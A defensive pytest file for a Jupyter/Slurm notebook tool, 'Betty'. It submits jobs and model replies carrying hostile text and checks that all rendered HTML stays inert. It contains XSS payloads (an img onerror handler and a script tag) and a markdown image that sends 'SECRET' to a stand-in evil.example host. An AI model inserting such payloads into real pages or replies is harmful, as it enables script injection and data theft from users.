"""Hostile text through the notebook's real surfaces: nothing another user, a log or the model wrote comes alive.

Another cluster user submits jobs with plain ``sbatch`` (named and commented with payloads
from ``tests/data/hostile/corpus.json``); a real kernel shows them with ``%betty`` and every
piece of HTML it sends to the front-end is read back: the payloads must be there as text,
and nothing in that HTML may run, load from another host or follow a ``javascript:`` URL.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import uuid
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from betty_jupyter.safe_text import visible
from hostile import EVIL_HOST, code_blocks, hostile, live_html, live_markdown, shown_text
from kernel_driver import Kernel
from llm_server import ScriptedLLM, call, say
from notebook_support import kernel, llm, one_error_line, project  # noqa: F401 (fixtures)

pytestmark = pytest.mark.cluster

NAMES = hostile("job_names")
COMMENTS = hostile("comments")


def slurm(project: dict[str, Any], *argv: str) -> subprocess.CompletedProcess[str]:
    """A Slurm command run by hand (another user of the cluster, or a look behind Betty's back)."""
    return subprocess.run(list(argv), env=project["env"], cwd=project["root"], capture_output=True, text=True,
                          timeout=60)


@pytest.fixture(scope="module")
def strangers(project: dict[str, Any]) -> Iterator[dict[str, str]]:
    """Job id → name of held jobs another user named and commented with hostile text (cancelled afterwards)."""
    jobs: dict[str, str] = {}
    try:
        for name, comment in zip(NAMES, cycle(COMMENTS)):
            done = slurm(project, "sbatch", "--parsable", "--hold", f"--job-name={name}", f"--comment={comment}",
                         "--output=/dev/null", "--wrap", "true")
            assert done.returncode == 0, done.stderr
            jobs[done.stdout.strip().split(";")[0]] = name
        yield jobs
    finally:
        if jobs:
            slurm(project, "scancel", *jobs)


def html_values(kernel: Kernel, root: str) -> list[str]:
    """The HTML of every HTML widget under ``root``: what the front-end sets as innerHTML."""
    return [str(kernel.models[m].get("value", "")) for m in kernel.descendants(root)
            if kernel.models.get(m, {}).get("_model_name") == "HTMLModel" and m not in kernel.closed]


def inert(markups: list[str]) -> list[str]:
    """Every live thing in ``markups`` ([] when all of it is inert text)."""
    return [problem for markup in markups for problem in live_html(markup)]


def shows(kernel: Kernel, root: str, texts: list[str]) -> bool:
    """Whether every one of ``texts`` is shown as text under ``root``."""
    shown = "\n".join(shown_text(markup) for markup in html_values(kernel, root))
    return all(visible(text) in shown for text in texts)


# ----- other people's jobs -------------------------------------------------------------------------------------------
def test_the_queue_shows_hostile_job_names_as_text(kernel: Kernel, strangers: dict[str, str]) -> None:
    cell = kernel.run("%betty squeue")
    assert cell.status == "ok" and not cell.stderr, cell.stderr
    table = cell.widgets[0]
    kernel.wait_for(lambda: shows(kernel, table, list(strangers.values())), what="every hostile name in the table")
    assert inert(html_values(kernel, table)) == []
    assert "&lt;img src=x onerror=" in "".join(html_values(kernel, table))
    assert kernel.find(table, "betty-cancel"), "the held jobs are the test user's: their cancel rows show names too"
    assert inert([item["text/html"] for item in cell.displays + cell.result if "text/html" in item]) == []
    kept = kernel.run(f"set({list(strangers.values())!r}) <= set(_['name'])")
    assert kept.text == "True", "the DataFrame keeps the names exactly"


def accounting_names(project: dict[str, Any], ids: list[str]) -> list[str] | None:
    """The names ``sacct`` itself gives jobs ``ids``, once it knows every one of them."""
    done = slurm(project, "sacct", "-n", "-X", "--parsable2", "--delimiter=\x1f", "-o", "JobID,JobName",
                 "-j", ",".join(ids))
    rows = dict(line.split("\x1f", 1) for line in done.stdout.splitlines() if "\x1f" in line)
    return [rows[i] for i in ids] if set(ids) <= set(rows) else None


def test_history_status_and_the_cancel_card_show_them_as_text(kernel: Kernel, project: dict[str, Any],
                                                              strangers: dict[str, str]) -> None:
    # slurmdbd learns of a job a moment after the controller, and stores names its own way (quotes
    # become backticks, non-ASCII '?'): the table must show what accounting itself says.
    accounted = kernel.wait_for(lambda: accounting_names(project, list(strangers)), timeout=90,
                                what="the hostile jobs in accounting")
    table = kernel.run(f"%betty sacct {' '.join(strangers)}").widgets[0]
    assert shows(kernel, table, accounted) and inert(html_values(kernel, table)) == []
    assert "&lt;img src=x onerror=" in "".join(html_values(kernel, table))

    for job, name in list(strangers.items())[:3]:
        live = kernel.run(f"%betty status {job}").widgets[0]
        kernel.wait_for(lambda: shows(kernel, live, [name]), what=f"job {job}'s name")
        assert inert(html_values(kernel, live)) == []
        card = kernel.run(f"%betty cancel {job}").widgets[0]
        kernel.wait_for(lambda: kernel.find(card, "betty-deny"), what="the cancel card")
        assert shows(kernel, card, [name]) and inert(html_values(kernel, card)) == []
        kernel.click(kernel.find(card, "betty-deny")[0])
        kernel.wait_for(lambda: "denied by" in kernel.texts(card), what="the denial")
        assert inert(html_values(kernel, card)) == []

    log = kernel.run("%betty log --limit 20")
    markup = [item["text/html"] for item in log.result if "text/html" in item]
    assert markup and inert(markup) == [], "the action log's table too"


# ----- the model and the wiki ----------------------------------------------------------------------------------------
def test_a_hostile_reply_and_tool_output_render_without_running_or_loading(kernel: Kernel, llm: ScriptedLLM) -> None:
    replies = hostile("model_replies")
    llm.add(call("wiki_search", {"query": hostile("html")[0]}), say("\n\n".join(replies)))
    cell = kernel.run('%betty ask "summarise the logs"')
    chat = cell.widgets[0]
    kernel.wait_for(lambda: "Here is the result" in kernel.texts(chat) and "betty-reply" in kernel.texts(chat)
                    and "white-space:pre-wrap" not in kernel.texts(chat), what="the rendered reply")
    assert kernel.run("chat = _; chat.done.wait(30), chat.reason").text == "(True, 'finished')"
    markup = html_values(kernel, chat)
    assert inert(markup) == []
    joined = "".join(markup)
    assert f'<a href="https://{EVIL_HOST}/?d=SECRET"' in joined, "a remote image is a link that shows its URL"
    assert '<a href="https://slurm.schedmd.com/"' in joined, "a real link still works"
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in joined


def test_a_wiki_page_someone_else_wrote_is_shown_inert(kernel: Kernel, project: dict[str, Any]) -> None:
    body = "\n\n".join(hostile("model_replies", "markdown", "html"))
    page = project["root"] / "wiki" / "notes" / "shared-by-a-colleague.md"
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text(f"---\nname: shared\ndescription: a page from the shared project directory\ntype: note\n---\n{body}\n")
    cell = kernel.run("%betty wiki show notes/shared-by-a-colleague.md")
    assert cell.status == "ok" and not cell.stderr, cell.stderr
    markup = [item["text/html"] for item in cell.displays if "text/html" in item]
    assert len(markup) == 1 and inert(markup) == []
    assert "**bold**" not in markup[0] and "<strong>bold</strong>" in markup[0], "the page's markdown still renders"
    assert f">https://{EVIL_HOST}/?d=SECRET</a>" in markup[0]


# ----- the records Betty writes --------------------------------------------------------------------------------------
RECORD_NAME = "![x](https://evil.example/?d=SECRET)"
RECORD_SCRIPT = f"""#!/bin/bash
#SBATCH --job-name={RECORD_NAME}
#SBATCH --time=00:05:00
#SBATCH --mem=100M
echo '```'
echo '<!-- betty: not a marker -->'
cat <<'EOF'
````
</pre><img src=x onerror=window.__pwned=1>
~~~
EOF
echo finished
"""
RECORD_GOAL = "# ![x](https://evil.example/?d=SECRET) <img src=x onerror=window.__pwned=1> | a | b"


def submit_cell(kernel: Kernel, slug: str, goal: str, script: str) -> Any:
    return kernel.run(f"%%betty submit --slug {slug} --goal {shlex.quote(goal)}\n{script}")


def test_a_record_keeps_the_script_whole_in_one_fence_and_nothing_alive(kernel: Kernel, project: dict[str, Any]) -> None:
    import nbformat

    cell = submit_cell(kernel, "hostile-record", RECORD_GOAL, RECORD_SCRIPT)
    assert cell.status == "ok" and not cell.stderr, cell.stderr
    root = cell.widgets[0]
    kernel.wait_for(lambda: kernel.find(root, "betty-approve"), what="the card")
    assert inert(html_values(kernel, root)) == [], "the card shows the script and the goal as text"
    kernel.click(kernel.find(root, "betty-approve")[0])
    found = kernel.wait_for(lambda: re.search(r"submitted job (\d+)", kernel.texts(root)), what="the submission")
    job = found.group(1)

    pages = list((project["root"] / "wiki" / "experiments").glob("*-hostile-record.md"))
    assert len(pages) == 1
    text = pages[0].read_text()
    assert RECORD_SCRIPT.rstrip("\n") + "\n" in code_blocks(text), "the script is whole, in one block"
    assert live_markdown(text) == []
    assert text.count("<!-- betty:auto-start -->") == 1 and text.count("<!-- betty:auto-end -->") == 1

    book = nbformat.read(project["root"] / "notebooks" / "experiments" / f"{pages[0].stem}.ipynb", as_version=4)
    markdown = [c.source for c in book.cells if c.cell_type == "markdown"]
    assert all(live_markdown(source) == [] for source in markdown)
    assert RECORD_SCRIPT.rstrip("\n") + "\n" in [block for source in markdown for block in code_blocks(source)]
    assert any(RECORD_GOAL in shown_text(_rendered(source)) for source in markdown), "the goal is shown as typed"

    index = (project["root"] / "wiki" / "index.md").read_text()
    assert live_markdown(index) == []
    # The job may have ended already: its output is then the record alone, else the live view beside it.
    [status] = kernel.run(f"%betty status {job}").outputs
    kernel.wait_for(lambda: RECORD_NAME in shown_text(status["data"]["text/html"]), what="the job's name")
    assert inert([status["data"]["text/html"]]) == []


def _rendered(markdown: str) -> str:
    import mistune

    return str(mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])(markdown))


def no_job_named(project: dict[str, Any], name: str) -> None:
    """Neither the queue nor accounting has ever seen a job called ``name``; no page was written for it."""
    assert slurm(project, "squeue", "-h", "-n", name, "-o", "%i").stdout.strip() == ""
    accounted = slurm(project, "sacct", "-n", "-X", "-P", "--name", name, "-S", "now-1hours", "-o", "JobID")
    assert accounted.returncode == 0 and accounted.stdout.strip() == "", accounted.stdout
    assert not list((project["root"] / "wiki" / "experiments").glob(f"*{name}*"))


@pytest.mark.parametrize(("goal", "script_line", "refused"), [
    ("finish <!-- betty:auto-end --> then mine", "echo ok", "the goal contains '<!-- betty:auto-"),
    ("<!-- betty:auto-start -->", "echo ok", "the goal contains '<!-- betty:auto-"),
    ("a plain goal", "echo '<!-- betty:auto-end -->'", "the script contains '<!-- betty:auto-"),
])
def test_marker_text_is_refused_before_any_job_exists(kernel: Kernel, project: dict[str, Any], goal: str,
                                                      script_line: str, refused: str) -> None:
    name = f"marked-{uuid.uuid4().hex[:8]}"
    script = f"#!/bin/bash\n#SBATCH --job-name={name}\n#SBATCH --mem=100M\n{script_line}\n"
    line = one_error_line(submit_cell(kernel, name, goal, script))
    assert refused in line and "nothing was submitted" in line, line
    no_job_named(project, name)


def test_the_cell_still_submits_once_the_goal_is_reworded(kernel: Kernel, project: dict[str, Any]) -> None:
    name = f"reworded-{uuid.uuid4().hex[:8]}"
    script = f"#!/bin/bash\n#SBATCH --job-name={name}\n#SBATCH --mem=100M\necho ok\n"
    one_error_line(submit_cell(kernel, name, "before <!-- betty:auto-end --> after", script))
    no_job_named(project, name)
    card = submit_cell(kernel, name, "before the end marker, after it", script).widgets[0]
    kernel.click(kernel.wait_for(lambda: kernel.find(card, "betty-approve"), what="the card")[0])
    kernel.wait_for(lambda: re.search(r"submitted job (\d+)", kernel.texts(card)), what="the submission")
    pages = list((project["root"] / "wiki" / "experiments").glob(f"*{name}.md"))
    assert len(pages) == 1 and "before the end marker, after it" in pages[0].read_text()


def test_the_command_line_refuses_a_marked_goal_before_sbatch(project: dict[str, Any], tmp_path: Path) -> None:
    from conftest import run_betty

    name = f"cli-marked-{uuid.uuid4().hex[:8]}"
    script = tmp_path / "marked.sbatch"
    script.write_text(f"#!/bin/bash\n#SBATCH --job-name={name}\n#SBATCH --mem=100M\necho ok\n")
    done = run_betty("submit", str(script), "--yes", "--json", "--dir", str(project["root"]),
                     "--goal", "x <!-- betty:auto-start --> y", env=project["env"])
    assert done.returncode != 0 and done.stdout == ""
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "the goal contains '<!-- betty:auto-" in lines[0] and "nothing was submitted" in lines[0]
    no_job_named(project, name)
